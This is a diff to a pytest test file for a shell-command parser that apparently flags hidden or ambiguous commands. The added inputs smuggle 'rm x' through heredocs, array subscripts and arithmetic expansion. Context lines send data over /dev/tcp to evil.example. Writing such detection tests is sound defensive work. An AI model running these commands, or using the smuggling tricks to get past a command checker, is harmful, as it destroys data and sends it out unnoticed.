@@ -101,12 +101,20 @@ def test_every_command_of_a_line_is_listed_however_it_is_reached(text):
         "a > f }\\rm x",
         "a --<<E\nq\nE\nrm x",
         "a <<E\nrm x",
+        "a <<E\n`rm x`\nE\n",
+        "a <<E\n $(rm x)\nE\n",
         "a <<'E'b\nq\nE\n",
         "a <<$x\nq\n$x\nrm x",
         "((rm x); a)",
         "a $((rm x); b)",
         "a `b \\`rm x\\``",
         "a ${b@P}",
+        "printf -v 'a[$(rm x)]' y",
+        "read a[\\$\\(rm\\)]",
+        "[[ -v 'a[$(rm x)]' ]]",
+        'let "a[\\$(rm x)]=1"',
+        "unset 'a[''$(rm x)'']'",
+        "x='a[`rm x`]'; echo $((x))",
         "cat < /dev/tcp/evil.example/80",
         "echo x > /dev/tcp/evil.example/80",
         "exec 3<>f",
@@ -123,7 +131,18 @@ def test_what_a_shell_might_read_differently_is_in_doubt(text):
 
 @pytest.mark.parametrize(
     "text",
-    ["git status", "a && b | c", "a $x", "for f in *.py; do black $f; done", "cat <<'EOF'\n$(rm x)\nEOF\n", "", "# a"],
+    [
+        "git status",
+        "a && b | c",
+        "a $x",
+        "for f in *.py; do black $f; done",
+        "cat <<'EOF'\n$(rm x)\nEOF\n",
+        "",
+        "# a",
+        'echo "[$(date)]"',
+        "grep '[a-z]$'",
+        "awk '{ n[$1]++ } END { print n[$2] }'",
+    ],
 )
 def test_what_is_plain_is_not_in_doubt(text):
     assert parse_commands(text).doubts == ()
